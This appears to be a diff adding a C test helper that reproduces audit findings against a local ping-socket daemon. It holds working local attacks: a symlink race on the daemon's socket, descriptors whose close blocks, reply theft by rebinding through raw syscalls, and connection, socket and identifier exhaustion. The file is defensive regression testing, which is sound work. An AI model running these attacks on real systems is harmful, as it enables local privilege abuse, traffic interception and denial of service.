@@ -1,0 +1,918 @@
+/*
+ * attack - the attacks of issue 15's audit, as a local user would make
+ * them, for tests/integration/security.sh.  Each prints what it got, one
+ * "name=value" line (or a few); the script decides what is harm.
+ *
+ *   attack race DIR NAME VICTIM STOPFILE
+ *        finding 1: swap the daemon's fresh socket DIR/NAME for a symbolic
+ *        link to VICTIM, at once (inotify) and from a tight polling loop,
+ *        until STOPFILE exists; prints "race swaps=N"
+ *   attack linger hello|data GOFILE STOPFILE
+ *        finding 2: a TCP socket whose close blocks (SO_LINGER 30 s,
+ *        unacknowledged data, a peer that never reads), passed to the
+ *        daemon once GOFILE exists, on a new control connection before
+ *        HELLO, or on a socket's data descriptor; holds the peer until
+ *        STOPFILE exists
+ *   attack steal IDENT SECONDS
+ *        finding 3: a broker socket unbound with the kernel's
+ *        connect(AF_UNSPEC) and bound again to IDENT with the kernel's
+ *        bind(); counts what it receives for SECONDS
+ *   attack victim ADDR IDENT SECONDS
+ *        a socket bound to IDENT (through the library) that pings ADDR
+ *        every 100 ms for SECONDS; prints "victim sent=N replies=M"
+ *   attack conns N STOPFILE
+ *        finding 5: N control connections of one uid, each saying HELLO;
+ *        which were refused (closed by the daemon) and when
+ *   attack park N SIZE STOPFILE
+ *        finding 6: one socket attached on N connections (proof and
+ *        WIRE_ATTACH made here), each sending an Echo Request of SIZE
+ *        bytes; the answers that come at once, the ones that wait
+ *   attack bbind N STOPFILE
+ *        finding 7: one broker socket (WIRE_OPEN made here) and N
+ *        WIRE_BROKER_BINDs for it (with proofs), every socket kept
+ *   attack dupbind N STOPFILE
+ *        finding 7 through the library: N times socket(), dup(), bind();
+ *        then one more socket()
+ *   attack hoard START COUNT ADDR STOPFILE
+ *        finding 9: emulated raw sockets (PINGSOCK_RAW=echo), Echo
+ *        Requests to ADDR with identifiers START.. (COUNT of them, 256 a
+ *        socket) until one is refused; holds them until STOPFILE exists
+ *   attack malformed N
+ *        finding 13: N connections that each say HELLO, then send a
+ *        malformed request
+ *
+ * The proof of holding a socket (wire.h: struct wire_proof) is made here,
+ * not by the library.  Built against an older wire.h (no proofs: the
+ * protocol passed the descriptor itself) it passes descriptors instead,
+ * so that the same attacks run against the code before the fixes.
+ * Requests go to $PINGSOCK_SOCKET.
+ */
+#include <errno.h>
+#include <fcntl.h>
+#include <netinet/in.h>
+#include <netinet/tcp.h>
+#include <poll.h>
+#include <signal.h>
+#include <stdbool.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <arpa/inet.h>
+#include <sys/inotify.h>
+#include <sys/prctl.h>
+#include <sys/random.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/un.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+#include "pingsock.h"
+#include "wire/wire.h"
+
+#define MAX_CONNS 8192
+#define ANSWER_FDS 4
+
+static const char *ename(int e)
+{
+	static const struct {
+		int e;
+		const char *n;
+	} names[] = {
+		{ 0, "0" }, { EPERM, "EPERM" }, { EACCES, "EACCES" },
+		{ EINVAL, "EINVAL" }, { EAGAIN, "EAGAIN" },
+		{ EMFILE, "EMFILE" }, { ENOBUFS, "ENOBUFS" },
+		{ EADDRINUSE, "EADDRINUSE" }, { EBADF, "EBADF" },
+		{ ECONNRESET, "ECONNRESET" }, { ECONNREFUSED, "ECONNREFUSED" },
+		{ EPIPE, "EPIPE" }, { ENOENT, "ENOENT" }, { EPROTO, "EPROTO" },
+		{ ETIMEDOUT, "ETIMEDOUT" }, { ENOMEM, "ENOMEM" },
+	};
+	static char other[32];
+
+	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++)
+		if (names[i].e == e)
+			return names[i].n;
+	snprintf(other, sizeof(other), "errno%d", e);
+	return other;
+}
+
+static uint64_t now_ms(void)
+{
+	struct timespec ts;
+
+	clock_gettime(CLOCK_MONOTONIC, &ts);
+	return (uint64_t)ts.tv_sec * 1000u + (uint64_t)ts.tv_nsec / 1000000u;
+}
+
+static bool exists(const char *path)
+{
+	return access(path, F_OK) == 0;
+}
+
+/* Until path exists (checked every 50 ms). */
+static void wait_file(const char *path)
+{
+	while (!exists(path))
+		usleep(50000);
+}
+
+/* ---- the control channel, by hand ---- */
+
+/* A new connection to the daemon; -1 (errno EAGAIN: its backlog is full,
+ * a daemon that does not accept) rather than a wait. */
+static int dial(void)
+{
+	struct sockaddr_un sun = { .sun_family = AF_UNIX };
+	const char *p = getenv("PINGSOCK_SOCKET");
+	int fd = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
+
+	snprintf(sun.sun_path, sizeof(sun.sun_path), "%s",
+		 p ? p : PINGSOCK_DEFAULT_SOCKET);
+	if (fd >= 0 && (connect(fd, (struct sockaddr *)&sun, sizeof(sun)) ||
+			fcntl(fd, F_SETFL, 0))) {
+		int e = errno;
+
+		close(fd);
+		errno = e;
+		fd = -1;
+	}
+	return fd;
+}
+
+/* One message with up to ANSWER_FDS descriptors: 0 or errno. */
+static int send_msg(int fd, const void *buf, size_t len, const int *fds,
+		    int nfds)
+{
+	union {
+		struct cmsghdr align;
+		char b[CMSG_SPACE(ANSWER_FDS * sizeof(int))];
+	} cbuf;
+	struct iovec iov = { .iov_base = (void *)buf, .iov_len = len };
+	struct msghdr mh = { .msg_iov = &iov, .msg_iovlen = 1 };
+
+	if (nfds > 0) {
+		struct cmsghdr *cm;
+
+		memset(&cbuf, 0, sizeof(cbuf));
+		mh.msg_control = cbuf.b;
+		mh.msg_controllen = CMSG_SPACE((size_t)nfds * sizeof(int));
+		cm = CMSG_FIRSTHDR(&mh);
+		cm->cmsg_level = SOL_SOCKET;
+		cm->cmsg_type = SCM_RIGHTS;
+		cm->cmsg_len = CMSG_LEN((size_t)nfds * sizeof(int));
+		memcpy(CMSG_DATA(cm), fds, (size_t)nfds * sizeof(int));
+	}
+	return sendmsg(fd, &mh, MSG_NOSIGNAL) < 0 ? errno : 0;
+}
+
+struct answer {
+	int32_t result;
+	uint8_t body[256];
+	size_t blen;
+	int fds[ANSWER_FDS];
+	int nfds;
+};
+
+enum { ANS_OK, ANS_CLOSED, ANS_TIMEOUT };
+
+static void answer_fds(struct msghdr *mh, struct answer *a)
+{
+	for (struct cmsghdr *cm = CMSG_FIRSTHDR(mh); cm;
+	     cm = CMSG_NXTHDR(mh, cm)) {
+		size_t k = (cm->cmsg_len - CMSG_LEN(0)) / sizeof(int);
+
+		for (size_t i = 0; cm->cmsg_type == SCM_RIGHTS && i < k; i++) {
+			int f;
+
+			memcpy(&f, CMSG_DATA(cm) + i * sizeof(int), sizeof(f));
+			if (a->nfds < ANSWER_FDS)
+				a->fds[a->nfds++] = f;
+			else
+				close(f);
+		}
+	}
+}
+
+/* The daemon's answer within ms: ANS_OK (a filled), ANS_CLOSED, ANS_TIMEOUT. */
+static int get_answer(int fd, int ms, struct answer *a)
+{
+	union {
+		struct cmsghdr align;
+		char b[CMSG_SPACE(ANSWER_FDS * sizeof(int))];
+	} cbuf;
+	uint8_t buf[WIRE_RESP_HDR + sizeof(a->body)];
+	struct iovec iov = { .iov_base = buf, .iov_len = sizeof(buf) };
+	struct msghdr mh = { .msg_iov = &iov, .msg_iovlen = 1,
+			     .msg_control = cbuf.b,
+			     .msg_controllen = sizeof(cbuf.b) };
+	struct pollfd p = { .fd = fd, .events = POLLIN };
+	ssize_t n;
+
+	memset(a, 0, sizeof(*a));
+	if (poll(&p, 1, ms) <= 0)
+		return ANS_TIMEOUT;
+	n = recvmsg(fd, &mh, MSG_DONTWAIT | MSG_CMSG_CLOEXEC);
+	if (n > 0)
+		answer_fds(&mh, a);
+	if (n < WIRE_RESP_HDR) {
+		for (int i = 0; i < a->nfds; i++)
+			close(a->fds[i]);
+		a->nfds = 0;
+		return ANS_CLOSED;
+	}
+	memcpy(&a->result, buf + 4, sizeof(a->result));
+	a->blen = (size_t)n - WIRE_RESP_HDR;
+	memcpy(a->body, buf + WIRE_RESP_HDR, a->blen);
+	return ANS_OK;
+}
+
+static void answer_close(struct answer *a)
+{
+	for (int i = 0; i < a->nfds; i++)
+		close(a->fds[i]);
+	a->nfds = 0;
+}
+
+/* A request (SEND: its data after it), sent with descriptors; 0 or errno. */
+static int send_req(int fd, const struct wire_req *req, const uint8_t *data,
+		    size_t dlen, const int *fds, int nfds)
+{
+	static uint8_t buf[WIRE_MSG_MAX];
+	long n = wire_encode_req(req, buf, sizeof(buf));
+
+	if (n < 0 || (size_t)n + dlen > sizeof(buf))
+		return EMSGSIZE;
+	if (dlen)
+		memcpy(buf + n, data, dlen);
+	return send_msg(fd, buf, (size_t)n + dlen, fds, nfds);
+}
+
+/* Send and wait for the answer (3 s): ANS_*, or -errno of the send. */
+static int call(int fd, const struct wire_req *req, const int *fds, int nfds,
+		struct answer *a)
+{
+	int e;
+
+	memset(a, 0, sizeof(*a));
+	e = send_req(fd, req, NULL, 0, fds, nfds);
+
+	if (e)
+		return -e;
+	return get_answer(fd, 3000, a);
+}
+
+/* A connection that said HELLO and was answered 0; -1 if not. */
+static int hello_conn(int ms)
+{
+	struct wire_req req = { .type = WIRE_HELLO, .u.version = WIRE_VERSION };
+	struct answer a;
+	int fd = dial();
+
+	if (fd < 0)
+		return -1;
+	if (send_req(fd, &req, NULL, 0, NULL, 0) ||
+	    get_answer(fd, ms, &a) != ANS_OK || a.result != 0) {
+		close(fd);
+		return -1;
+	}
+	answer_close(&a);
+	return fd;
+}
+
+/* WIRE_OPEN of an ICMP socket of family; the answer in *a (fds kept). */
+static int open_req(int conn, int family, int type, struct answer *a)
+{
+	struct wire_req req = { .type = WIRE_OPEN };
+
+	req.u.open.domain = family;
+	req.u.open.type = type;
+	req.u.open.protocol = family == AF_INET6 ? IPPROTO_ICMPV6 : IPPROTO_ICMP;
+	return call(conn, &req, NULL, 0, a);
+}
+
+#ifdef WIRE_NONCE_LEN
+/*
+ * The proof of holding a socket (wire.h): a fresh random nonce written
+ * on the socket's own descriptor, then named in the request.
+ */
+struct proof {
+	uint32_t magic;
+	uint8_t nonce[WIRE_NONCE_LEN];
+};
+
+static int prove(int sockfd, uint8_t *nonce)
+{
+	struct proof pf = { .magic = WIRE_PROOF_MAGIC };
+
+	if (getrandom(pf.nonce, sizeof(pf.nonce), 0) != sizeof(pf.nonce))
+		return errno;
+	memcpy(nonce, pf.nonce, sizeof(pf.nonce));
+	return send(sockfd, &pf, sizeof(pf), MSG_NOSIGNAL) == sizeof(pf) ? 0
+									 : errno;
+}
+#endif
+
+/* WIRE_ATTACH of handle h, whose data descriptor is datafd. */
+static int attach_req(int conn, uint32_t h, int datafd, struct answer *a)
+{
+	struct wire_req req = { .type = WIRE_ATTACH, .handle = h };
+
+	memset(a, 0, sizeof(*a));
+#ifdef WIRE_NONCE_LEN
+	int e = prove(datafd, req.nonce);
+
+	return e ? -e : call(conn, &req, NULL, 0, a);
+#else
+	return call(conn, &req, &datafd, 1, a);	/* before proofs */
+#endif
+}
+
+/* WIRE_BROKER_BIND of broker socket h (liveness livefd, the kernel
+ * socket ksock) to an automatic identifier. */
+static int bbind_req(int conn, uint32_t h, int livefd, int ksock,
+		     struct answer *a)
+{
+	struct sockaddr_in any = { .sin_family = AF_INET };
+	struct wire_req req = { .type = WIRE_BROKER_BIND };
+
+	memset(a, 0, sizeof(*a));
+	req.u.addr.len = sizeof(any);
+	memcpy(req.u.addr.bytes, &any, sizeof(any));
+#ifdef WIRE_NONCE_LEN
+	int e = prove(livefd, req.nonce);
+
+	req.handle = h;
+	req.flags = WIRE_BB_REUSE;
+	(void)ksock;
+	return e ? -e : call(conn, &req, NULL, 0, a);
+#else
+	(void)h;
+	(void)livefd;
+	return call(conn, &req, &ksock, 1, a);	/* before proofs */
+#endif
+}
+
+/* ---- finding 1: the socket swapped for a link at start-up ---- */
+
+static int swaps;
+
+static void swap_in(const char *dir, const char *name, const char *victim)
+{
+	char tmp[4096], path[4096];
+
+	snprintf(tmp, sizeof(tmp), "%s/.race.%d", dir, (int)getpid());
+	snprintf(path, sizeof(path), "%s/%s", dir, name);
+	unlink(tmp);
+	if (symlink(victim, tmp) == 0 && rename(tmp, path) == 0)
+		swaps++;
+}
+
+/* The tight loop: whenever the name is a socket, swap it. */
+static void race_poll(const char *dir, const char *name, const char *victim,
+		      const char *stop)
+{
+	char path[4096];
+	struct stat st;
+
+	snprintf(path, sizeof(path), "%s/%s", dir, name);
+	for (unsigned i = 0;; i++) {
+		if (lstat(path, &st) == 0 && S_ISSOCK(st.st_mode))
+			swap_in(dir, name, victim);
+		if (i % 4096 == 0 && exists(stop))
+			break;
+	}
+	printf("race poll_swaps=%d\n", swaps);
+}
+
+/* The inotify racer: the moment the name is created, swap it. */
+static int cmd_race(char **argv)
+{
+	const char *dir = argv[2], *name = argv[3], *victim = argv[4];
+	int in = inotify_init1(IN_CLOEXEC | IN_NONBLOCK);
+	pid_t child;
+
+	/* Its command line names pingsockd-race...: the daemons of other
+	 * tests (privdrop.c) take it for a pingsockd of their user. */
+	prctl(PR_SET_NAME, "pingsockd-race");
+	if (in < 0 || inotify_add_watch(in, dir, IN_CREATE) < 0) {
+		perror("attack: inotify");
+		return 1;
+	}
+	child = fork();
+	if (child == 0) {
+		prctl(PR_SET_PDEATHSIG, SIGKILL);	/* not left spinning */
+		race_poll(dir, name, victim, argv[5]);
+		_exit(0);
+	}
+	while (!exists(argv[5])) {
+		struct pollfd p = { .fd = in, .events = POLLIN };
+		char buf[4096] __attribute__((aligned(8)));
+		ssize_t n;
+
+		if (poll(&p, 1, 100) <= 0)
+			continue;
+		n = read(in, buf, sizeof(buf));
+		for (ssize_t off = 0; n > 0 && off < n;) {
+			const struct inotify_event *ev = (const void *)(buf + off);
+
+			if (ev->len && strcmp(ev->name, name) == 0)
+				swap_in(dir, name, victim);
+			off += (ssize_t)(sizeof(*ev) + ev->len);
+		}
+	}
+	waitpid(child, NULL, 0);
+	printf("race inotify_swaps=%d\n", swaps);
+	return 0;
+}
+
+/* ---- finding 2: a descriptor whose close blocks ---- */
+
+/*
+ * A connected TCP pair on 127.0.0.1: *rcv never reads, *snd has its
+ * send queue full of data the peer will not acknowledge (zero window)
+ * and SO_LINGER {1, 30}: its last close waits up to 30 s.
+ */
+static int linger_pair(int *snd, int *rcv)
+{
+	struct sockaddr_in sin = { .sin_family = AF_INET,
+				   .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
+	socklen_t sl = sizeof(sin);
+	struct linger lg = { 1, 30 };
+	int l = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), small = 4096;
+	static char junk[65536];
+	long queued = 0;
+	ssize_t n;
+
+	setsockopt(l, SOL_SOCKET, SO_RCVBUF, &small, sizeof(small));
+	if (l < 0 || bind(l, (struct sockaddr *)&sin, sizeof(sin)) ||
+	    listen(l, 1) || getsockname(l, (struct sockaddr *)&sin, &sl))
+		return -1;
+	*snd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+	setsockopt(*snd, SOL_SOCKET, SO_SNDBUF, &small, sizeof(small));
+	if (connect(*snd, (struct sockaddr *)&sin, sizeof(sin)))
+		return -1;
+	*rcv = accept(l, NULL, NULL);
+	close(l);
+	if (*rcv < 0)
+		return -1;
+	while ((n = send(*snd, junk, sizeof(junk), MSG_DONTWAIT)) > 0)
+		queued += n;
+	if (setsockopt(*snd, SOL_SOCKET, SO_LINGER, &lg, sizeof(lg)))
+		return -1;
+	printf("linger queued=%ld\n", queued);
+	return 0;
+}
+
+/* Where the descriptor goes: a new control connection, or the data
+ * descriptor of a socket of ours. */
+static int linger_target(const char *mode)
+{
+	if (strcmp(mode, "data") == 0) {
+		int fd = pingsock_socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
+
+		if (fd < 0)
+			printf("socket=%s\n", ename(errno));
+		return fd;
+	}
+	return dial();
+}
+
+/*
+ * The descriptor goes when GOFILE exists (the test stops the daemon
+ * meanwhile, so that the daemon's reference is the last one whichever
+ * process is scheduled first: the attacker may simply retry until it
+ * wins that race), and the attacker's own copy is closed at once.
+ */
+static int cmd_linger(char **argv)
+{
+	int snd, rcv, to = linger_target(argv[2]), e;
+	struct wire_req req = { .type = WIRE_HELLO, .u.version = WIRE_VERSION };
+
+	if (to < 0 || linger_pair(&snd, &rcv)) {
+		perror("attack: linger set-up");
+		return 1;
+	}
+	printf("ready\n");
+	wait_file(argv[3]);
+	if (strcmp(argv[2], "data") == 0)
+		e = send_msg(to, "x", 1, &snd, 1);
+	else
+		e = send_req(to, &req, NULL, 0, &snd, 1);
+	if (!e)
+		close(snd);	/* the daemon's reference is the last */
+	printf("send=%s\n", e ? ename(e) : "ok");
+	printf("passed\n");
+	wait_file(argv[4]);
+	/* The peer goes first: its reset ends any close that waits. */
+	close(rcv);
+	if (e)
+		close(snd);
+	return 0;
+}
+
+/* ---- finding 3: replies stolen in broker mode ---- */
+
+static int cmd_steal(char **argv)
+{
+	struct sockaddr_in v = { .sin_family = AF_INET,
+				 .sin_port = htons((uint16_t)atoi(argv[2])) };
+	struct sockaddr unspec = { .sa_family = AF_UNSPEC };
+	int fd = pingsock_socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP), got = 0;
+	uint64_t end = now_ms() + 1000u * (uint64_t)atoi(argv[3]);
+	long rc;
+
+	if (fd < 0) {
+		printf("socket=%s\n", ename(errno));
+		return 1;
+	}
+	printf("backend=%s\n", pingsock_backend(fd) == PINGSOCK_BACKEND_BROKER
+				       ? "broker" : "other");
+	/* The kernel's calls, not the library's. */
+	rc = syscall(SYS_connect, fd, &unspec, sizeof(unspec));
+	printf("unbind=%s\n", rc ? ename(errno) : "0");
+	rc = syscall(SYS_bind, fd, &v, sizeof(v));
+	printf("bind=%s\n", rc ? ename(errno) : "0");
+	while (now_ms() < end) {
+		struct pollfd p = { .fd = fd, .events = POLLIN };
+		char buf[512];
+
+		if (poll(&p, 1, 100) > 0 &&
+		    recv(fd, buf, sizeof(buf), MSG_DONTWAIT) > 0)
+			got++;
+	}
+	printf("stolen=%d\n", got);
+	return 0;
+}
+
+static int cmd_victim(char **argv)
+{
+	struct sockaddr_in to = { .sin_family = AF_INET },
+			   me = { .sin_family = AF_INET,
+				  .sin_port = htons((uint16_t)atoi(argv[3])) };
+	int fd = pingsock_socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
+	unsigned sent = 0, replies = 0;
+	uint64_t end = now_ms() + 1000u * (uint64_t)atoi(argv[4]);
+
+	if (fd < 0 || inet_pton(AF_INET, argv[2], &to.sin_addr) != 1 ||
+	    pingsock_bind(fd, (struct sockaddr *)&me, sizeof(me))) {
+		printf("victim=%s\n", ename(errno));
+		return 1;
+	}
+	printf("victim ready\n");
+	while (now_ms() < end) {
+		unsigned char pkt[32] = { 8, 0, 0, 0, 0, 0, 0, (uint8_t)sent };
+		struct pollfd p = { .fd = fd, .events = POLLIN };
+		uint64_t due = now_ms() + 100;
+		char buf[512];
+
+		if (pingsock_sendto(fd, pkt, sizeof(pkt), 0,
+				    (struct sockaddr *)&to, sizeof(to)) > 0)
+			sent++;
+		while (now_ms() < due && pingsock_poll(&p, 1, 20) >= 0)
+			if ((p.revents & POLLIN) &&
+			    pingsock_recv(fd, buf, sizeof(buf), MSG_DONTWAIT) > 0)
+				replies++;
+	}
+	printf("victim sent=%u replies=%u\n", sent, replies);
+	return 0;
+}
+
+/* ---- finding 5: connections of one uid ---- */
+
+static int cmd_conns(char **argv)
+{
+	int n = atoi(argv[2]), accepted = 0, refused = 0, hung = 0, fail = 0;
+	int first = 0, slow = 0, e = 0;
+
+	for (int i = 1; i <= n && i <= MAX_CONNS && hung < 5; i++) {
+		struct wire_req req = { .type = WIRE_HELLO,
+					.u.version = WIRE_VERSION };
+		struct answer a;
+		uint64_t t0 = now_ms();
+		int fd = dial(), r;
+
+		if (fd < 0) {
+			fail++;
+			e = errno;
+			continue;
+		}
+		r = send_req(fd, &req, NULL, 0, NULL, 0) ? ANS_CLOSED
+			: get_answer(fd, 3000, &a);
+		if (r == ANS_OK && a.result == 0) {
+			accepted++;	/* and held open */
+			continue;
+		}
+		if (r == ANS_TIMEOUT)
+			hung++;
+		else
+			refused++;
+		if (r == ANS_CLOSED && !first)
+			first = i;
+		if (r == ANS_CLOSED && now_ms() - t0 > 1000)
+			slow++;
+		close(fd);
+	}
+	printf("conns accepted=%d refused=%d first_refused=%d slow_refusals=%d "
+	       "no_answer=%d connect_failed=%d%s%s\n", accepted, refused, first,
+	       slow, hung, fail, fail ? " connect_errno=" : "",
+	       fail ? ename(e) : "");
+	printf("holding\n");
+	wait_file(argv[3]);
+	return 0;
+}
+
+/* ---- finding 6: sends parked on many connections ---- */
+
+struct tally {
+	int ok, enobufs, other, closed;
+};
+
+/* Answers to the sends on conns[0..n) until none comes for quiet_ms;
+ * done[i] marks those answered. */
+static void collect(const int *conns, bool *done, int n, int quiet_ms,
+		    struct tally *t)
+{
+	static struct pollfd p[MAX_CONNS];
+	static int idx[MAX_CONNS];
+
+	for (;;) {
+		int np = 0;
+
+		for (int i = 0; i < n; i++) {
+			if (done[i])
+				continue;
+			p[np].fd = conns[i];
+			p[np].events = POLLIN;
+			idx[np++] = i;
+		}
+		if (!np || poll(p, (nfds_t)np, quiet_ms) <= 0)
+			return;
+		for (int k = 0; k < np; k++) {
+			struct answer a;
+
+			if (!p[k].revents)
+				continue;
+			done[idx[k]] = true;
+			if (get_answer(p[k].fd, 0, &a) != ANS_OK)
+				t->closed++;
+			else if (a.result >= 0)
+				t->ok++;
+			else if (a.result == -ENOBUFS)
+				t->enobufs++;
+			else
+				t->other++;
+			answer_close(&a);
+		}
+	}
+}
+
+/* A WIRE_SEND of an Echo Request of size bytes to 127.0.0.1 on handle h. */
+static int send_big(int conn, uint32_t h, const uint8_t *pkt, uint32_t size)
+{
+	struct sockaddr_in to = { .sin_family = AF_INET,
+				  .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
+	struct wire_req req = { .type = WIRE_SEND, .handle = h };
+
+	req.u.send.len = size;
+	req.u.send.datalen = size;
+	req.u.send.namelen = sizeof(to);
+	memcpy(req.u.send.name, &to, sizeof(to));
+	return send_req(conn, &req, pkt, size, NULL, 0);
+}
+
+/* One socket of ours: its handle and data descriptor. */
+static int own_socket(uint32_t *h, int *datafd)
+{
+	struct answer a;
+	int c0 = hello_conn(3000);
+
+	if (c0 < 0 || open_req(c0, AF_INET, SOCK_DGRAM, &a) != ANS_OK ||
+	    a.result != 0 || a.blen < 4 || a.nfds < 1) {
+		printf("open failed\n");
+		return -1;
+	}
+	memcpy(h, a.body, sizeof(*h));
+	*datafd = a.fds[0];
+	for (int i = 1; i < a.nfds; i++)
+		close(a.fds[i]);
+	return c0;
+}
+
+static int cmd_park(char **argv)
+{
+	static int conns[MAX_CONNS];
+	static bool done[MAX_CONNS];
+	static uint8_t pkt[WIRE_DATA_MAX] = { 8 };
+	int n = atoi(argv[2]), nc = 0, refused = 0, datafd;
+	uint32_t size = (uint32_t)atoi(argv[3]), h;
+	struct tally now = { 0 }, later = { 0 };
+
+	if (n > MAX_CONNS || size > sizeof(pkt) || own_socket(&h, &datafd) < 0)
+		return 1;
+	for (int i = 0; i < n; i++) {
+		struct answer a;
+		int c = hello_conn(3000), r;
+
+		if (c < 0)
+			break;
+		r = attach_req(c, h, datafd, &a);
+		answer_close(&a);
+		if (r != ANS_OK || a.result != 0 || send_big(c, h, pkt, size)) {
+			refused++;
+			close(c);
+			continue;
+		}
+		conns[nc++] = c;
+	}
+	collect(conns, done, nc, 300, &now);
+	printf("park attached=%d attach_failed=%d at_once: ok=%d enobufs=%d "
+	       "other=%d closed=%d; waiting=%d\n", nc, refused, now.ok,
+	       now.enobufs, now.other, now.closed,
+	       nc - now.ok - now.enobufs - now.other - now.closed);
+	printf("holding\n");
+	wait_file(argv[4]);
+	collect(conns, done, nc, 1500, &later);
+	printf("park later: ok=%d enobufs=%d other=%d closed=%d\n", later.ok,
+	       later.enobufs, later.other, later.closed);
+	return 0;
+}
+
+/* ---- finding 7: kernel sockets past max_sockets ---- */
+
+static void result_list(char *list, size_t cap, int r, const struct answer *a)
+{
+	size_t l = strlen(list);
+
+	snprintf(list + l, cap - l, "%s%s", l ? "," : "",
+		 r == ANS_OK ? ename(a->result < 0 ? -a->result : 0)
+			     : r == ANS_CLOSED ? "closed" : "no-answer");
+}
+
+static int cmd_bbind(char **argv)
+{
+	char list[1024] = "";
+	struct answer a;
+	int n = atoi(argv[2]), c = hello_conn(3000), ksock, live, ok = 0;
+	uint32_t h, kind;
+
+	if (c < 0 || open_req(c, AF_INET, SOCK_DGRAM, &a) != ANS_OK ||
+	    a.result != 0 || a.blen < 8 || a.nfds < 2) {
+		printf("bbind open failed\n");
+		return 1;
+	}
+	memcpy(&h, a.body, 4);
+	memcpy(&kind, a.body + 4, 4);
+	ksock = a.fds[0];
+	live = a.fds[1];
+	printf("bbind open kind=%s\n", kind == WIRE_OPEN_BROKER ? "broker"
+								 : "other");
+	for (int i = 0; i < n; i++) {
+		int r = bbind_req(c, h, live, ksock, &a);
+
+		result_list(list, sizeof(list), r, &a);
+		if (r == ANS_OK && a.result == 0 && a.nfds > 0) {
+			ok++;	/* every socket it got is kept */
+			ksock = a.fds[0];	/* (before proofs: the newest
+						 * names the socket) */
+		}
+	}
+	printf("bbind ok=%d results=%s\n", ok, list);
+	printf("holding\n");
+	wait_file(argv[3]);
+	return 0;
+}
+
+static int cmd_dupbind(char **argv)
+{
+	struct sockaddr_in any = { .sin_family = AF_INET };
+	int n = atoi(argv[2]), fd;
+
+	for (int i = 1; i <= n; i++) {
+		fd = pingsock_socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
+		if (fd < 0) {
+			printf("socket%d=%s\n", i, ename(errno));
+			break;
+		}
+		if (dup(fd) < 0)	/* kept: the old kernel socket lives */
+			printf("dup%d=%s\n", i, ename(errno));
+		printf("bind%d=%s\n", i, pingsock_bind(fd, (struct sockaddr *)&any,
+						       sizeof(any))
+					       ? ename(errno) : "0");
+	}
+	fd = pingsock_socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
+	printf("further=%s\n", fd < 0 ? ename(errno) : "0");
+	printf("holding\n");
+	wait_file(argv[3]);
+	return 0;
+}
+
+/* ---- finding 9: identifiers hoarded through raw-compat sockets ---- */
+
+static uint16_t csum(const uint8_t *p, size_t n)
+{
+	uint32_t s = 0;
+
+	for (size_t i = 0; i + 1 < n; i += 2)
+		s += (uint32_t)(p[i] << 8 | p[i + 1]);
+	if (n & 1)
+		s += (uint32_t)p[n - 1] << 8;
+	while (s >> 16)
+		s = (s & 0xffff) + (s >> 16);
+	return (uint16_t)~s;
+}
+
+/* An Echo Request with identifier id on raw socket fd; 0 or errno. */
+static int raw_echo(int fd, const struct sockaddr_in *to, unsigned id)
+{
+	uint8_t pkt[16] = { 8, 0, 0, 0, (uint8_t)(id >> 8), (uint8_t)id, 0, 1 };
+	uint16_t s = csum(pkt, sizeof(pkt));
+
+	pkt[2] = (uint8_t)(s >> 8);
+	pkt[3] = (uint8_t)s;
+	return pingsock_sendto(fd, pkt, sizeof(pkt), 0,
+			       (const struct sockaddr *)to, sizeof(*to)) < 0
+		       ? errno : 0;
+}
+
+static int cmd_hoard(char **argv)
+{
+	struct sockaddr_in to = { .sin_family = AF_INET };
+	unsigned start = (unsigned)atoi(argv[2]), count = (unsigned)atoi(argv[3]);
+	int socks[64], nsocks = 0, e = 0;
+	unsigned held = 0;
+
+	if (inet_pton(AF_INET, argv[4], &to.sin_addr) != 1)
+		return 2;
+	for (unsigned k = 0; k < count && !e && start + k <= 0xFFFF; k++) {
+		if (k / 256 >= (unsigned)nsocks) {
+			if (nsocks == 64)
+				break;
+			socks[nsocks] = pingsock_socket(AF_INET, SOCK_RAW,
+							IPPROTO_ICMP);
+			if (socks[nsocks] < 0) {
+				e = errno;
+				break;
+			}
+			nsocks++;
+		}
+		e = raw_echo(socks[k / 256], &to, start + k);
+		if (!e)
+			held++;
+	}
+	printf("hoard sockets=%d held=%u stop=%s\n", nsocks, held,
+	       e ? ename(e) : "none");
+	printf("holding\n");
+	wait_file(argv[5]);
+	return 0;
+}
+
+/* ---- finding 13: malformed requests ---- */
+
+static int cmd_malformed(char **argv)
+{
+	static const uint8_t junk[3] = { 0xff, 0xff, 0x7f };
+	int n = atoi(argv[2]), closed = 0, sent = 0;
+
+	for (int i = 0; i < n; i++) {
+		struct answer a;
+		int fd = hello_conn(3000);
+
+		if (fd < 0)
+			continue;
+		if (send_msg(fd, junk, sizeof(junk), NULL, 0) == 0) {
+			sent++;
+			if (get_answer(fd, 3000, &a) == ANS_CLOSED)
+				closed++;
+			answer_close(&a);
+		}
+		close(fd);
+	}
+	printf("malformed sent=%d closed=%d\n", sent, closed);
+	return 0;
+}
+
+int main(int argc, char **argv)
+{
+	static const struct {
+		const char *name;
+		int argc;
+		int (*fn)(char **argv);
+	} cmds[] = {
+		{ "race", 6, cmd_race }, { "linger", 5, cmd_linger },
+		{ "steal", 4, cmd_steal }, { "victim", 5, cmd_victim },
+		{ "conns", 4, cmd_conns }, { "park", 5, cmd_park },
+		{ "bbind", 4, cmd_bbind }, { "dupbind", 4, cmd_dupbind },
+		{ "hoard", 6, cmd_hoard }, { "malformed", 3, cmd_malformed },
+	};
+
+	setvbuf(stdout, NULL, _IOLBF, 0);
+	for (size_t i = 0; argc > 1 && i < sizeof(cmds) / sizeof(cmds[0]); i++)
+		if (strcmp(argv[1], cmds[i].name) == 0 && argc == cmds[i].argc)
+			return cmds[i].fn(argv);
+	fprintf(stderr, "usage: attack race|linger|steal|victim|conns|park|"
